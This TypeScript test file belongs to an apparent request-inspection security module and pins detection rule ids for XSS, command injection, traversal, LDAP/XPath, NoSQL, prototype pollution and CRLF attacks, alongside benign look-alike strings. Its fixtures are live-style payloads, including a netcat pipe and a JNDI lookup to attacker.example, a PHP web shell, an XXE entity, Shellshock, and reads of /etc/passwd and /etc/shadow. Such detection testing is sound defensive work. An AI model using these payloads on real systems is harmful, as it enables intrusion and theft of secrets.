/**
 * One pinned example per rule id of the families other than SQL and SSRF (those have their own
 * files), and the text each family must leave alone. Rule ids are part of the public contract:
 * SIEM rules and config exceptions refer to them.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { inspectValue, inspectKey } from '../../src/threat/inspect/index.js';

const rule = (v: string, location: 'query' | 'body' | 'header' | 'path' = 'query') => inspectValue(v, { location })?.rule;

test('xss rules', () => {
  assert.equal(rule('<script>alert(1)</script>'), 'xss.tag');
  assert.equal(rule('<svg/onload=alert(1)>'), 'xss.tag');
  assert.equal(rule('<img src=x onerror=alert(1)>'), 'xss.event-handler');
  assert.equal(rule('<x onclick=alert(1)>'), 'xss.event-handler');
  assert.equal(rule('" onmouseover="alert(1)'), 'xss.event-handler');
  assert.equal(rule('<a href="java&#x09;script:alert(1)">x</a>'), 'xss.js-url');
  assert.equal(rule('javascript:alert(1)'), 'xss.js-url');
  assert.equal(rule('data:text/html;base64,PHNjcmlwdD4='), 'xss.js-url');
  assert.equal(rule('<iframe srcdoc="x">'), 'xss.tag');
  assert.equal(rule('<div srcdoc=x>'), 'xss.srcdoc');
  assert.equal(rule('<div style="width:expression(alert(1))">'), 'xss.css');
  assert.equal(rule('{{constructor.constructor("alert(1)")()}}'), 'xss.template');
  assert.equal(rule('${7*7}'), 'xss.template');
  assert.equal(rule('<!DOCTYPE x [<!ENTITY e SYSTEM "https://evil.example/x.dtd">]>'), 'xss.xml-entity');
  assert.equal(rule('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), 'traversal.sensitive', 'families are reported in INJECTION_FAMILIES order');
  for (const t of ['<b>bold</b>', 'a < b and c > d', 'I <3 this fund', 'JavaScript: The Good Parts', 'online=yes', '<p onclick>', 'Hello {{first_name}}', '<a href="https://example.com">x</a>']) {
    assert.equal(inspectValue(t, { location: 'body' }), undefined, t);
  }
});

test('command rules', () => {
  assert.equal(rule('x; uname -a'), 'command.separator');
  assert.equal(rule('x; cat index.php'), 'command.separator');
  assert.equal(rule('127.0.0.1 | nc attacker.example 4444'), 'command.separator');
  assert.equal(rule('a && whoami'), 'command.separator');
  assert.equal(rule(';id'), 'command.separator');
  assert.equal(rule('| id'), 'command.separator');
  assert.equal(rule('$(id)'), 'command.substitution');
  assert.equal(rule('`whoami`'), 'command.substitution');
  assert.equal(rule("; w'h'o'am'i"), 'command.separator');
  assert.equal(rule('; /???/c?t /???/p??s??'), 'command.separator');
  assert.equal(rule(';cat${IFS}index.php'), 'command.ifs');
  assert.equal(rule('() { :; }; /bin/bash -c id', 'header'), 'command.shellshock');
  assert.equal(rule('${jndi:ldap://attacker.example/a}', 'header'), 'command.jndi');
  assert.equal(rule("<?php system($_GET['c']); ?>"), 'command.code');
  assert.equal(rule('%COMSPEC% /c dir'), 'command.env');
  assert.deepEqual(inspectValue('x%0aid', { location: 'body' }), { family: 'command', rule: 'command.separator', via: 'url' }, 'an encoded newline separates commands');
  assert.equal(inspectValue('Hi\nid', { location: 'body' }), undefined, 'a raw newline in a note is a line break');
  for (const t of ['AT&T', 'Q&A', 'Date & time', 'Name & ID', 'Please sell 100 shares; thanks!', 'Call me; sleep well', '| Name | ID |', '$(1,234.50)', '{cat, dog}', 'Anne & Ruby', 'Use `account_id`']) {
    assert.equal(inspectValue(t, { location: 'body' }), undefined, t);
  }
});

test('traversal rules', () => {
  assert.equal(rule('../../etc/passwd'), 'traversal.dot-dot');
  assert.equal(rule('....//....//etc'), 'traversal.dot-dot');
  assert.equal(rule('..;/admin'), 'traversal.dot-dot');
  assert.equal(rule('/etc/shadow'), 'traversal.sensitive');
  assert.equal(rule('C:\\Windows\\win.ini'), 'traversal.sensitive');
  assert.equal(rule('/proc/self/environ'), 'traversal.sensitive');
  assert.equal(rule('file:///etc/hosts'), 'traversal.sensitive');
  assert.equal(rule('php://filter/resource=index.php'), 'traversal.scheme');
  assert.equal(rule('report.pdf%00.exe', 'body'), 'traversal.nul');
  assert.equal(rule('\\\\attacker.example\\share\\x'), 'traversal.unc');
  assert.deepEqual(inspectValue('..%c0%af..%c0%afetc', { location: 'path' }), { family: 'traversal', rule: 'traversal.dot-dot', via: 'url' });
  for (const t of ['reports/2024/q1.pdf', '12/05/2024', 'Wait...', '...', 'a..b', 'C:\\Users\\ann\\Documents', 'web.config', '/accounts/acc_1']) {
    assert.equal(inspectValue(t, { location: 'body' }), undefined, t);
  }
});

test('ldap and xpath rules', () => {
  assert.equal(rule('*)(uid=*'), 'ldap.filter');
  assert.equal(rule('admin)(|(password=*))'), 'ldap.filter');
  assert.equal(rule('(|(uid=*))'), 'ldap.composite');
  assert.equal(rule('*)'), 'ldap.wildcard');
  assert.equal(inspectValue("' or count(/*)=1 or '", { location: 'query', skip: new Set(['sqli']) })?.rule, 'xpath.tautology');
  assert.equal(rule('//user[position()=1]'), 'xpath.axis');
  assert.equal(rule('/child::node()'), 'xpath.axis');
  for (const t of ['John (CEO)(retired)', 'Section 4(b)(2)', '*important*', 'https://www.example.com/a//b', 'count me in']) {
    assert.equal(inspectValue(t, { location: 'body' }), undefined, t);
  }
});

test('nosql and prototype pollution in values', () => {
  assert.equal(rule('{"$gt": ""}'), 'nosql.operator');
  assert.equal(rule('password[$ne]=x'), 'nosql.operator');
  assert.equal(rule("'; return true; var a='"), 'nosql.js');
  assert.equal(rule('this.password.match(/.*/)'), 'nosql.js');
  assert.equal(rule('__proto__.isAdmin'), 'prototype-pollution.path');
  assert.equal(rule('constructor.prototype.x'), 'prototype-pollution.path');
  assert.equal(rule('["constructor"]["prototype"]'), 'prototype-pollution.path');
  assert.equal(inspectKey('__pro__proto__to__')?.rule, 'prototype-pollution.key', 'a strip-once sanitizer would produce __proto__');
  for (const t of ['$1,234.50', '${amount}', 'Prototype', 'prototype of the new app', 'constructor']) {
    assert.equal(inspectValue(t, { location: 'body' }), undefined, t);
  }
});

test('crlf rules', () => {
  assert.equal(rule('%0d%0aSet-Cookie: a=1'), 'crlf.control');
  assert.equal(rule('a\\r\\nX-Injected: 1', 'body'), 'crlf.escaped');
  assert.equal(rule('%E5%98%8A%E5%98%8DSet-Cookie: x=1', 'header'), 'crlf.unicode');
  assert.equal(rule('abc\u2028def', 'path'), 'crlf.control');
  assert.equal(rule('Zdeněk Čech', 'query'), undefined, 'č and Č alone are letters');
});
